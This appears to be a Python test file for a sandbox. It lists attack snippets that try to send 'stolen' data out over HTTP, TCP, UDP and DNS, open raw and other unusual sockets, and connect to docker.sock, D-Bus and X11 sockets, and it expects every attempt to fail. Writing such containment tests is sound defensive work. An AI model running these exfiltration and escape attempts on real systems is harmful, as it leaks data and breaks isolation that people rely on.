"""Reaching out: each tries to send to the servers of the test, which count what comes."""

from hostile import Attack

ATTACKS = [
    Attack(
        "urllib and plain sockets to the host",
        """
        import socket, urllib.request
        hosts = ["127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "192.168.0.1", OUTSIDE["address"]]
        port = OUTSIDE["port"]
        ways = (lambda host: urllib.request.urlopen(f"http://{host}:{port}/stolen", timeout=1),
                lambda host: socket.create_connection((host, port), timeout=1).sendall(b"stolen"))
        nothing_works((way, host) for way in ways for host in hosts)
        """,
        sample=True,
    ),
    Attack(
        "names, datagrams and raw sockets",
        """
        import socket
        def send(host, port):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                return line.sendto(b"stolen", (host, port)) and -1  # it is sent, and reaches nobody
        packet, bluetooth, kernel_crypto, machine = 17, 31, 38, 40
        acts = [(socket.getaddrinfo, "example.org", 80)]
        acts += [(socket.socket, family, socket.SOCK_RAW) for family in (2, packet, bluetooth)]
        acts.append((socket.socket, kernel_crypto, socket.SOCK_SEQPACKET))
        acts.append((socket.socket, machine, socket.SOCK_STREAM))
        hosts = ("127.0.0.1", OUTSIDE["address"], "8.8.8.8")
        nothing_works(acts + [(send, host, port) for host in hosts for port in (OUTSIDE["datagrams"], 53)])
        """,
    ),
    Attack(
        "sockets in files and without names",
        r"""
        import socket
        def send(name):
            with socket.socket(socket.AF_UNIX) as line:
                line.connect(name)
                line.sendall(b"stolen")
        names = ("\0" + OUTSIDE["unnamed"], OUTSIDE["socket"], "/run/docker.sock", "/var/run/docker.sock",
                 "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0")
        nothing_works((send, name) for name in names)
        """,
    ),
]
